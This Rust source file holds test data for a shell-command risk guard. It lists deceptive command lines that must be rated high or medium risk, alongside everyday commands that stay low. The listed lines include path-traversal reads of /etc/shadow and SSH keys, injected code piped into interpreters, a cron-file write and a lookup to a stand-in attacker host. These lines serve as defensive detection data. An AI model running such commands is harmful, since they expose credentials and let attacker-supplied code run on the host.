//! Dangerous command lines by kind, found by a third attacker review of the guard (less common
//! programs of the positive model and the options they were allowed): each with the least level
//! it must get, listed in docs/policies.md. `STILL_LOW` holds their everyday neighbours.

use crate::kinds::Kind;
use warden_policy::RiskLevel::{High, Medium};

pub const KINDS: &[Kind] = &[
    Kind {
        // An interpreter's "version" word that is not one: python's -v is verbose mode, ruby's
        // -v prints the version and goes on, racket and tclsh have none; each then runs code
        // from its input, which in a pipeline is what an earlier stage printed.
        name: "interpreter-version-words-that-run-the-input",
        lines: &[
            ("python3 -v", High),
            ("echo 'import os' | python3 -v", High),
            ("python -v", High),
            ("python3.11 -v", High),
            ("ruby -v", High),
            ("echo 'system(\"id\")' | ruby -v", High),
            ("racket -v", High),
            ("racket --version", High),
            ("tclsh -v", High),
            ("python3 -V -v", High),
            ("python3 version", Medium),
            ("node version", Medium),
            ("ruby version", Medium),
        ],
    },
    Kind {
        // A reading verb of one manager is an acting verb of another.
        name: "package-verbs-that-act",
        lines: &[
            ("npm version patch", High),
            ("npm version 2.0.0", High),
            ("env -C /srv/app npm version major", High),
            ("cargo check", High),
            ("cargo check --all-targets", High),
            ("brew services start nginx", High),
            ("brew services stop postgresql", High),
            ("brew services cleanup", High),
            // Verbs are per manager: one that is not a built-in reading command of this
            // manager may be an alias (`.cargo/config.toml` in the working directory) or a
            // plugin program on the PATH.
            ("cargo list", High),
            ("env -C /srv/app cargo ls", High),
            ("cargo outdated", High),
            ("cargo show serde", High),
            ("pip repoquery x", High),
            ("npm check", High),
            ("npm freeze", High),
            ("snap search x", High),
            // rpm expands a spec file's macros (`%(COMMAND)`) and runs a package file's
            // %verifyscript.
            ("rpm -q --specfile /srv/app/x.spec", High),
            ("rpm -q --specfile=/srv/app/x.spec", High),
            ("rpm -Vp /tmp/x.rpm", High),
            ("rpm --verify --package /tmp/x.rpm", High),
            ("rpm -qa --predefine 'x 1'", High),
        ],
    },
    Kind {
        // Options of "read-only" tools that set or write something.
        name: "settings-and-writes-through-reading-tools",
        lines: &[
            ("smartctl -l scterc,70,70 /dev/sda", High),
            ("smartctl -l scttempint,10,p /dev/sda", High),
            ("smartctl -l sataphy,reset /dev/sda", High),
            ("smartctl -l sasphy,reset /dev/sda", High),
            ("smartctl --log=scterc,0,0 /dev/sda", High),
            ("smartctl -l frobnicate /dev/sda", Medium),
            ("lspci -q", High),
            ("lspci -Q", High),
            ("lspci -vq", High),
            ("lspci -O net.cache_name=/etc/cron.d/x -q", High),
            ("lspci -O net.domain=x.attacker.example", Medium),
            ("lspci -Onet.cache_name=/tmp/x", Medium),
        ],
    },
    Kind {
        // A name joined to a directory by the program itself: `..` climbs out of it.
        name: "names-joined-to-a-directory",
        lines: &[
            ("sysctl kernel/../../../root/notes", High),
            ("sysctl kernel/../../../etc/shadow", High),
            ("sysctl -n net/../../../srv/app/.env", High),
            ("sysctl /etc/hostname", High),
            ("systemd-analyze cat-config shadow", High),
            ("systemd-analyze cat-config gshadow-", High),
            ("systemd-analyze cat-config ssh/ssh_host_ed25519_key", High),
            ("systemd-analyze cat-config /etc/shadow", High),
            ("service ../../tmp/evil status", High),
            ("service ../../srv/app/run status", High),
            ("pg_ctlcluster ../../../tmp x status", High),
            ("pg_ctlcluster 15 ../../x status", High),
            ("getent -s ../../tmp/x passwd", High),
            ("getent --service=/tmp/x hosts", High),
            ("getent -s files/../../x group", High),
            ("modinfo -k ../../../srv/x ext4", Medium),
            ("modinfo -k ../../../root/x ext4", Medium),
        ],
    },
    Kind {
        // Readers whose operands are read, where the table said they were only named.
        name: "contents-read-through-listing-options",
        lines: &[
            ("tree --fromfile /etc/shadow", High),
            ("tree --fromfile /root/.ssh/id_rsa", High),
            ("tree --fromfile", Medium),
            ("echo x | tree --fromfile", Medium),
        ],
    },
    Kind {
        // ps reads BSD letters one by one: a value-taking letter takes the rest of the word.
        name: "ps-environments-in-bsd-clusters",
        lines: &[
            ("ps ep1", High),
            ("ps ewwp1", High),
            ("ps axep1", High),
            ("ps eU0", High),
            ("ps 'aux e'", High),
            ("ps 'e'", High),
        ],
    },
    Kind {
        // Programs started by what a read-only option asks for: git's signature placeholders
        // run gpg (or `gpg.program`), like `--show-signature`.
        name: "format-placeholders-that-run-programs",
        lines: &[
            ("git log --format=%GG -1", Medium),
            ("git log --pretty=format:%GK -1", Medium),
            ("git log --format='%h %GS' -1", Medium),
            ("git log --pretty='tformat:%G?' -1", Medium),
            ("git show -s --format=%GG HEAD", Medium),
            ("git rev-list --format=%GF HEAD -1", Medium),
            ("git for-each-ref --format='%(signature)'", Medium),
            (
                "git for-each-ref --format='%(signature:key)' refs/tags",
                Medium,
            ),
        ],
    },
    Kind {
        // What a wrapper changes about the program it starts.
        name: "wrappers-that-change-the-program",
        lines: &[
            // Multi-call programs (busybox) run the applet argv[0] names.
            ("env -a sh ls /tmp/script", Medium),
            ("env --argv0=sh cat /tmp/script", Medium),
            ("env -ash ls /tmp/script", Medium),
            // watch reruns without end: below a second apart, a busy loop.
            ("watch -x -n 0.1 cat /proc/loadavg", Medium),
            ("watch -n 0 -x cat /proc/loadavg", Medium),
            ("watch --interval=0.5 -x uptime", Medium),
        ],
    },
    Kind {
        // dig takes any prefix of a `+` option: `+v` is `+vc` (TCP), `+htt` DNS over HTTPS.
        name: "dig-option-prefixes",
        lines: &[
            ("dig +v example.com", Medium),
            ("dig +tc example.com", Medium),
            ("dig +tl example.com", Medium),
            ("dig +htt example.com", Medium),
            ("dig +VC example.com", Medium),
        ],
    },
];

/// Everyday neighbours of the lines above, which stay low.
pub const STILL_LOW: &[&str] = &[
    "python3 --version",
    "python3 -V",
    "python -VV",
    "perl -v",
    "node -v",
    "node --version",
    "php -v",
    "lua -v",
    "ruby --version",
    "npm version",
    "npm ls",
    "npm list --depth 0",
    // `cargo search` and `npm outdated` ask the registry over the network (a seventh review:
    // medium in `round7.rs`); these answer from the machine.
    "cargo version",
    "brew services",
    "brew services list",
    "brew list",
    "pip check",
    "pip list",
    "pip show requests",
    "pip freeze",
    "dnf list installed",
    // Kept to the cache (a sixth review: without -C they refresh stale metadata first).
    "dnf -C repoquery --installed",
    "yum -C info bash",
    "snap list",
    "snap services",
    "flatpak list",
    "gem list",
    "gem search -l rails",
    "apk info",
    "zypper --no-refresh search nginx",
    "dnf check",
    "rpm -qa",
    "rpm -qi bash",
    "rpm -qpl /tmp/x.rpm",
    "rpm -Va --noscripts",
    "rpm -qf /usr/bin/ls",
    "smartctl -a /dev/sda",
    "smartctl -H /dev/nvme0",
    "smartctl -l selftest /dev/sda",
    "smartctl -l xerror,50 /dev/sda",
    "smartctl -l scterc /dev/sda",
    "smartctl -l devstat /dev/sda",
    "lspci",
    "lspci -nnk",
    "lspci -vvv -s 00:02.0",
    "lspci -k -d 10de:",
    "sysctl -a",
    "sysctl vm.swappiness",
    "sysctl net/ipv4/ip_forward",
    "sysctl net.ipv4.conf.eth0/100.forwarding",
    "sysctl -n kernel.pid_max fs.file-max",
    "systemd-analyze cat-config systemd/journald.conf",
    "systemd-analyze cat-config systemd/system.conf",
    "service nginx status",
    "service php8.2-fpm status",
    "pg_ctlcluster 15 main status",
    "getent passwd root",
    "dig +notrace +nocmd example.com",
    "dig +noall +answer example.com MX",
    "dig +tries=2 +time=1 example.com",
    "modinfo ext4",
    "modinfo -k 6.1.0-18-amd64 ext4",
    // `getent -s files passwd root` chooses the name service sources: medium (round29.rs).
    "getent hosts example.com",
    "tree -L 2 /etc/nginx",
    "tree -d /srv",
    "ps aux",
    "ps auxf",
    "ps auxww",
    "ps axo pid,etime,cmd",
    "ps -eo pid,etime,args --sort=-etime",
    "ps U postgres",
    "ps -fu www-data",
    "ps -p 1 -o etimes=",
    "ps p1",
    "ps -ef | grep nginx",
    "git log --format='%h %an %s' -5",
    "git log --pretty=oneline -5",
    "git log --format=%gD -1",
    "git for-each-ref --format='%(refname:short)' refs/heads",
    "watch -n 2 -x cat /proc/loadavg",
    "watch -x uptime",
    "env -C /srv cat /etc/hostname",
];
